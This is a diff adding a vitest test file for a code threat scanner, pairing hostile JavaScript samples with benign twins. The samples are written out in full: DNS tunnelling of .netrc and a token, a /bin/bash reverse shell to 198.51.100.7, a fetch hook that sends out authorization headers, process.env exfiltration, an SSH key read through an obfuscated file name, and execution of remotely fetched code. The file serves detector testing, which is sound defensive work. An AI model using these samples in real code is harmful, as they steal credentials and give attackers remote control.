@@ -1,0 +1,95 @@
+// The ways by which values get from where they are read to where they are used, each beside a benign twin.
+import { expect, test } from 'vitest';
+import { threatsOf } from '../helpers.ts';
+
+interface Way {
+  way: string;
+  rule: string;
+  severity?: string;
+  bad: string;
+  benign: string;
+}
+
+const SEND = (what: string) =>
+  `fetch('https://collect.other.example/in', { method: 'POST', body: ${what} }).catch(() => {});`;
+
+const WAYS: Way[] = [
+  {
+    way: 'a generator',
+    rule: 'dns-tunnelling',
+    bad: `import { promises as dns } from 'node:dns'; import { createReadStream } from 'node:fs'; import { homedir } from 'node:os';
+async function* parts(file) { let n = 0; for await (const chunk of createReadStream(file)) yield \`\${chunk.toString('hex')}.\${n++}.q.other.example\`; }
+for await (const name of parts(homedir() + '/.netrc')) await dns.resolve4(name).catch(() => []);`,
+    benign: `import { promises as dns } from 'node:dns';
+async function* parts(domain) { for (const one of ['_dmarc', 'default']) yield [one, domain].join('.'); }
+for await (const name of parts('other.example')) await dns.resolveTxt(name).catch(() => []);`,
+  },
+  {
+    way: 'an encoder of the file’s own',
+    rule: 'dns-tunnelling',
+    bad: `import { Resolver } from 'node:dns/promises'; const A = 'abcdefghijklmnopqrstuvwxyz234567'; const resolver = new Resolver();
+const base32 = (buf) => { let bits = 0, value = 0, out = ''; for (const byte of buf) { value = (value << 8) | byte; bits += 8; while (bits >= 5) { out += A[(value >>> (bits - 5)) & 31]; bits -= 5; } } return out; };
+for (const part of base32(Buffer.from(process.env.REGISTRAR_TOKEN)).match(/.{1,40}/g)) resolver.resolve4(\`\${part}.r.other.example\`);`,
+    benign: `import { Resolver } from 'node:dns/promises'; import { createHash } from 'node:crypto'; const resolver = new Resolver();
+const label = (address) => createHash('sha256').update(address).digest('hex').slice(0, 56);
+export const key = (address, domain) => resolver.resolveAny(\`\${label(address)}._openpgpkey.mail.example\`);`,
+  },
+  {
+    way: 'the arguments of a timer',
+    rule: 'reverse-shell',
+    bad: `import net from 'node:net'; import { pipeline } from 'node:stream'; import cp from 'node:child_process';
+function assist({ host, port, program }) { const s = net.connect({ host, port }); const child = cp.spawn(program, ['-i']);
+pipeline(s, child.stdin, () => {}); s.on('error', () => setTimeout(assist, 9e4, { host, port, program })); }
+setTimeout(assist, 5000, { host: '198.51.100.7', port: 443, program: '/bin/bash' });`,
+    benign: `import net from 'node:net'; import { pipeline } from 'node:stream'; import fs from 'node:fs';
+function save({ host, port, file }) { pipeline(net.connect({ host, port }), fs.createWriteStream(file), () => {}); }
+setTimeout(save, 5000, { host: '127.0.0.1', port: 4000, file: 'log.txt' });`,
+  },
+  {
+    way: 'a computed key and a helper of a bundler around a hook',
+    rule: 'network-hook',
+    bad: `var __name = (fn, value) => Object.defineProperty(fn, 'name', { value });
+function install() { const inner = globalThis.fetch; globalThis.fetch = __name(async function traced(input, init) { const res = await inner(input, init);
+inner('https://latency.other.example/c', { method: 'POST', body: JSON.stringify({ k: new Headers(init?.headers).get('authorization') }) }).catch(() => {}); return res; }, 'traced'); } install();`,
+    benign: `var __name = (fn, value) => Object.defineProperty(fn, 'name', { value });
+function install() { const inner = globalThis.fetch; globalThis.fetch = __name(async function traced(input, init) { const started = Date.now(); const res = await inner(input, init);
+console.error(res.status, Date.now() - started); return res; }, 'traced'); } install();`,
+  },
+  {
+    way: 'a computed key of process',
+    rule: 'environment-exfiltration',
+    bad: `const scope = ['e', 'nv'].join(''); const context = () => { const { [scope]: tags } = process; return { tags: Object.assign({}, tags) }; };
+${SEND('JSON.stringify(context())')}`,
+    benign: `const scope = ['ver', 'sion'].join(''); const context = () => { const { [scope]: tag } = process; return { tag }; };
+${SEND('JSON.stringify(context())')}`,
+  },
+  {
+    way: 'a function that puts paths together',
+    rule: 'credential-exfiltration',
+    bad: `import fs from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path';
+const dot = (...p) => join(homedir(), '.' + p[0], ...p.slice(1)); const name = (codes) => codes.map((c) => String.fromCharCode(c ^ 7)).join('');
+const read = (file) => fs.readFileSync(file, 'utf8'); const files = [dot('notes'), dot('ssh', name([110, 99, 88, 117, 116, 102]))]; for (const file of files) ${SEND('read(file)')}`,
+    benign: `import fs from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path';
+const dot = (...p) => join(homedir(), '.' + p[0], ...p.slice(1));
+export const settings = JSON.parse(fs.readFileSync(dot('acme', 'settings.json'), 'utf8'));`,
+  },
+  {
+    way: 'a client in a field that a constructor is given',
+    rule: 'fetched-code-executed',
+    bad: `import vm from 'node:vm'; import axios from 'axios'; class Store { constructor(http) { this.http = http; }
+async load(name) { const { data } = await this.http.get('/rules/' + name); return new vm.Script(data.code).runInThisContext(); } }
+new Store(axios.create({ baseURL: 'https://rules.other.example' })).load('round');`,
+    benign: `import axios from 'axios'; class Store { constructor(http) { this.http = http; }
+async load(name) { const { data } = await this.http.get('/rules/' + name); return Number(data.digits); } }
+new Store(axios.create({ baseURL: 'https://rules.other.example' })).load('round');`,
+  },
+];
+
+test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign }) => {
+  const found = threatsOf({ 'index.js': bad }).filter(({ ruleId }) => ruleId === rule);
+  expect(found.map((threat) => threat.severity)).toContain(severity ?? 'critical');
+  const loud = threatsOf({ 'index.js': benign }).filter(
+    (threat) => !['info', 'low'].includes(threat.severity),
+  );
+  expect(loud).toEqual([]);
+});
